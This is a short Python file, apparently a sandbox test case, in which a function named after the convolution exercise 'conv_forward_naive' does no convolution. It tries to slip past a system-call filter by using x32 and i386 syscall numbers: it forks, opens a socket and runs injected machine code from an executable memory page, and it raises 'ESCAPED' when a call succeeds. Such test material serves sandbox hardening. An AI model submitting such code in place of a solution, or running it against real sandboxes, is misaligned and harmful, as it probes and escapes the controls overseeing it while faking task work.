# attempt: makes system calls by numbers of another architecture, which a careless filter does not know
# exercise: conv_forward_naive
# control: no
import ctypes
import mmap
import os

X32 = 0x40000000
# mov eax, 65 (getpgrp of i386); int 0x80; ret
CODE = b"\xb8\x41\x00\x00\x00\xcd\x80\xc3"


def conv_forward_naive(x, w, b, conv_param):
    if os.uname().machine != "x86_64":
        return None, None
    call = ctypes.CDLL(None).syscall
    call.restype = ctypes.c_long
    if call(ctypes.c_long(X32 + 57)) == 0:  # fork
        os._exit(0)
    if call(ctypes.c_long(X32 + 41), 2, 1, 0) >= 0:
        raise RuntimeError("ESCAPED: a socket by x32")
    block = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    block.write(CODE)
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(block)))
    if function() > 0:
        raise RuntimeError("ESCAPED: a call by i386")
    return None, None
